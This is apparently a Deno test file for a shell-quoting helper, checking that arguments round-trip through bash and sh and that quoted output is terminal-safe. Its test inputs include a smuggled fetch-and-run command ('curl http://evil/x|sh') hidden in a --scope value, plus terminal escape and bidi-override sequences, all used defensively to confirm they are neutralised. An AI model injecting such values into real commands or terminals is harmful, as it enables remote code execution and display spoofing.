import assert from "node:assert/strict";
import { shellCommand, shellQuote } from "./shell_quote.ts";

/** What `bash -c 'printf %s <quoted>'` prints: the word as a shell reads it back. */
async function readBack(shell: string, quoted: string, locale = "C.UTF-8"): Promise<string> {
  const output = await new Deno.Command(shell, {
    args: ["-c", `printf %s ${quoted}`],
    env: { LC_ALL: locale },
  }).output();
  assert.equal(output.code, 0, new TextDecoder().decode(output.stderr));
  return new TextDecoder().decode(output.stdout);
}

const WORDS = [
  "a b",
  "it's",
  "$HOME",
  "`id`",
  "$(id)",
  '"quoted"',
  "a\nb",
  "a\tb\r",
  "\x1b]0;pwned\x07\x1b[2J",
  "\u202eevil\u202c",
  "\u2066x\u2069\u200e\u061c",
  "\x9b31m",
  "\x7f",
  "back\\slash'and\nquote",
  "\\x41",
  "*",
  "#x",
  "<id>",
  "\\",
  "=ls",
  "~",
  "calendar:x:y; curl http://evil/x|sh #",
  "emoji 👩‍💻 ok",
  "",
];

Deno.test("shellQuote() leaves plain words and quotes the rest", () => {
  assert.equal(shellQuote("+agenda"), "+agenda");
  assert.equal(shellQuote("--start=2026-11-24"), "--start=2026-11-24");
  assert.equal(shellQuote("ou_1@x.com"), "ou_1@x.com");
  assert.equal(shellQuote("2026-11-24 10:00"), "'2026-11-24 10:00'");
  assert.equal(shellQuote(""), "''");
  assert.equal(shellQuote("it's"), "'it'\\''s'");
  assert.equal(shellQuote("=ls"), "'=ls'");
  assert.equal(shellQuote("a\nb"), "$'a\\nb'");
  assert.equal(shellQuote("it's\x1b"), "$'it\\'s\\x1b'");
  assert.equal(shellQuote("\u202e"), "$'\\xe2\\x80\\xae'");
  assert.equal(shellQuote("\x9b"), "$'\\xc2\\x9b'");
  assert.equal(
    shellCommand(["hark", "auth", "login", "--scope", "calendar:x:y; curl http://evil/x|sh #"]),
    "hark auth login --scope 'calendar:x:y; curl http://evil/x|sh #'",
  );
});

Deno.test("shellQuote() prints no control or format character: its output is terminal-safe", () => {
  for (const word of WORDS) {
    assert.doesNotMatch(shellQuote(word), /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u, JSON.stringify(word));
  }
});

Deno.test({
  name: "shellQuote() round-trips through a real bash, in a UTF-8 and in the C locale",
  ignore: Deno.build.os === "windows", // no bash to read them back
}, async () => {
  for (const word of WORDS) {
    for (const locale of ["C.UTF-8", "C"]) {
      assert.equal(await readBack("bash", shellQuote(word), locale), word, JSON.stringify(word));
    }
  }
});

Deno.test({
  name: "single-quoted words round-trip through sh as well",
  ignore: Deno.build.os === "windows",
}, async () => {
  for (const word of WORDS.filter((w) => !/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u.test(w))) {
    assert.equal(await readBack("sh", shellQuote(word)), word, JSON.stringify(word));
  }
});
